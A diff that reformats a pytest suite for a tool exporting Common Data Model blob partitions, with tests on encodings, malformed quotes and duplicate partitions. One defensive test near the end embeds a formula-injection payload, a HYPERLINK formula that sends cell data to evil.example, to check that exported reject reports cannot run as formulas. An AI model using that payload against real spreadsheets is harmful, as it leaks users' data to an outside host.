@@ -72,8 +72,13 @@ def test_manifest_folder_with_header_only_partitions(source_container: Container
 
 
 @pytest.mark.parametrize(
-    "sample", ["TestLoadingCsvPartitionTraits", "TestLoadingCsvPartitionTraitsFromFileFormatSettings",
-               "TestModelJsonDataPartitionLocationConsistency"])
+    "sample",
+    [
+        "TestLoadingCsvPartitionTraits",
+        "TestLoadingCsvPartitionTraitsFromFileFormatSettings",
+        "TestModelJsonDataPartitionLocationConsistency",
+    ],
+)
 def test_metadata_only_samples_are_refused_before_any_row(source_container: ContainerClient, sample: str) -> None:
     local = reference_dir("cdm-samples", "cdm-sdk-modeljson-edgecases", sample, "Input")
     upload_folder(source_container, local, "edge")
@@ -101,9 +106,18 @@ def test_missing_metadata_and_segment(source_container: ContainerClient) -> None
 
 
 def test_a_listed_partition_missing_from_storage_refuses_the_snapshot(source_container: ContainerClient) -> None:
-    model = {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}], "partitions": [
-        {"name": "p1", "location": "https://other.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=x"},
-        {"name": "p2", "location": "https://other.blob.core.windows.net:443/c/f/Seg/p2.csv?snapshot=x"}]}]}
+    model = {
+        "entities": [
+            {
+                "name": "Seg",
+                "attributes": [{"name": "EMail"}],
+                "partitions": [
+                    {"name": "p1", "location": "https://other.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=x"},
+                    {"name": "p2", "location": "https://other.blob.core.windows.net:443/c/f/Seg/p2.csv?snapshot=x"},
+                ],
+            }
+        ]
+    }
     source_container.upload_blob("f/model.json", json.dumps(model).encode())
     source_container.upload_blob("f/Seg/p1.csv", b"a@example.com\n")
     with pytest.raises(ExportError) as caught:
@@ -112,13 +126,26 @@ def test_a_listed_partition_missing_from_storage_refuses_the_snapshot(source_con
 
 
 def test_partition_encodings_bom_and_invalid_bytes(source_container: ContainerClient) -> None:
-    model = {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}, {"name": "City"}], "partitions": [
-        {"name": "p1", "location": "f/Seg/p1.csv"},
-        {"name": "p2", "location": "f/Seg/p2.csv",
-         "fileFormatSettings": {"$type": "CsvFormatSettings", "encoding": "ISO-8859-1", "delimiter": ";"}}]}]}
+    model = {
+        "entities": [
+            {
+                "name": "Seg",
+                "attributes": [{"name": "EMail"}, {"name": "City"}],
+                "partitions": [
+                    {"name": "p1", "location": "f/Seg/p1.csv"},
+                    {
+                        "name": "p2",
+                        "location": "f/Seg/p2.csv",
+                        "fileFormatSettings": {"$type": "CsvFormatSettings", "encoding": "ISO-8859-1", "delimiter": ";"},
+                    },
+                ],
+            }
+        ]
+    }
     source_container.upload_blob("f/model.json", json.dumps(model).encode())
-    source_container.upload_blob("f/Seg/p1.csv", "\ufeffa@example.com,Malmö\r\nb@example.com,Bad \xff\r\n".encode()
-                                 .replace(b"Bad \xc3\xbf", b"Bad \xff"))
+    source_container.upload_blob(
+        "f/Seg/p1.csv", "\ufeffa@example.com,Malmö\r\nb@example.com,Bad \xff\r\n".encode().replace(b"Bad \xc3\xbf", b"Bad \xff")
+    )
     source_container.upload_blob("f/Seg/p2.csv", "c@example.com;Malmö\n".encode("latin-1"))
     rows = read_all(BlobSource(source_container), "f", "Seg")
     assert rows[0] == ("p1", 1, ["a@example.com", "Malmö"])  # the BOM is not part of the first value
@@ -130,12 +157,12 @@ def one_partition_model(name: str = "p1", **settings: str) -> bytes:
     partition: dict[str, object] = {"name": name, "location": "f/Seg/p1.csv"}
     if settings:
         partition["fileFormatSettings"] = {"$type": "CsvFormatSettings", **settings}
-    return json.dumps({"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}, {"name": "City"}],
-                                     "partitions": [partition]}]}).encode()
+    return json.dumps(
+        {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}, {"name": "City"}], "partitions": [partition]}]}
+    ).encode()
 
 
-def test_an_unterminated_quote_refuses_the_snapshot_naming_partition_and_line(
-        source_container: ContainerClient) -> None:
+def test_an_unterminated_quote_refuses_the_snapshot_naming_partition_and_line(source_container: ContainerClient) -> None:
     source_container.upload_blob("f/model.json", one_partition_model())
     rows = [f"x{i}@example.com,Lisbon\r\n" for i in range(20)]
     rows[17] = 'x17@example.com,"Bob\r\n'
@@ -165,8 +192,10 @@ def test_metadata_over_the_cap_is_refused_before_parsing(source_container: Conta
 
 
 def test_the_same_blob_listed_twice_is_refused(source_container: ContainerClient) -> None:
-    partitions = [{"name": f"p{n}", "location": location} for n, location in
-                  enumerate(["f/Seg/p1.csv", "https://acct.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=1"])]
+    partitions = [
+        {"name": f"p{n}", "location": location}
+        for n, location in enumerate(["f/Seg/p1.csv", "https://acct.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=1"])
+    ]
     model = {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}], "partitions": partitions}]}
     source_container.upload_blob("f/model.json", json.dumps(model).encode())
     source_container.upload_blob("f/Seg/p1.csv", b"a@example.com\r\n")
@@ -180,8 +209,9 @@ def test_utf16_partitions_read_and_an_undecodable_one_is_refused(source_containe
     source_container.upload_blob("f/Seg/p1.csv", "a@example.com,Malmö\r\n".encode("utf-16"))
     assert read_all(BlobSource(source_container), "f", "Seg") == [("p1", 1, ["a@example.com", "Malmö"])]
     # A lone surrogate code unit (0xD800) cannot be kept as a marker: the partition is refused, not a crash.
-    source_container.upload_blob("f/Seg/p1.csv", "a@example.com,X\r\n".encode("utf-16-le").replace(b"X\x00", b"\x00\xd8"),
-                                 overwrite=True)
+    source_container.upload_blob(
+        "f/Seg/p1.csv", "a@example.com,X\r\n".encode("utf-16-le").replace(b"X\x00", b"\x00\xd8"), overwrite=True
+    )
     source_container.upload_blob("f/model.json", one_partition_model(encoding="UTF-16LE"), overwrite=True)
     with pytest.raises(ExportError) as caught:
         read_all(BlobSource(source_container), "f", "Seg")
@@ -196,8 +226,9 @@ def test_utf7_partitions_are_refused_before_any_row(source_container: ContainerC
     assert caught.value.code == "source_invalid" and "utf-7" in caught.value.message
 
 
-def test_a_malformed_partition_leaves_a_mirror_list_alone(app_factory: Any, source_container: ContainerClient,
-                                                          sandbox: Any) -> None:
+def test_a_malformed_partition_leaves_a_mirror_list_alone(
+    app_factory: Any, source_container: ContainerClient, sandbox: Any
+) -> None:
     # The attack review's case: the same snapshot again but for one unterminated quote. Before, the
     # quote swallowed the rest of the partition and the mirror run unlinked everyone after it.
     app = app_factory([definition(sync_mode="mirror")])
@@ -213,12 +244,14 @@ def test_a_malformed_partition_leaves_a_mirror_list_alone(app_factory: Any, sour
     assert members == {f"person{i}@example.com" for i in range(1, 41)}
 
 
-def test_rejects_csv_cells_cannot_run_as_formulas(app_factory: Any, source_container: ContainerClient,
-                                                  blob_service: BlobServiceClient, state_container_name: str) -> None:
+def test_rejects_csv_cells_cannot_run_as_formulas(
+    app_factory: Any, source_container: ContainerClient, blob_service: BlobServiceClient, state_container_name: str
+) -> None:
     app = app_factory([definition(mapping={"email": "EMail"})])
     name = '=HYPERLINK("http://evil.example/?"&C2,"Click")'
-    model = {"entities": [{"name": SEGMENT, "attributes": [{"name": "EMail"}],
-                           "partitions": [{"name": name, "location": "p.csv"}]}]}
+    model = {
+        "entities": [{"name": SEGMENT, "attributes": [{"name": "EMail"}], "partitions": [{"name": name, "location": "p.csv"}]}]
+    }
     source_container.upload_blob(f"{FOLDER}/model.json", json.dumps(model).encode())
     source_container.upload_blob(f"{FOLDER}/p.csv", b"a@example.com\r\n-not-an-email\r\n@x\r\n")
     report = run(app).body
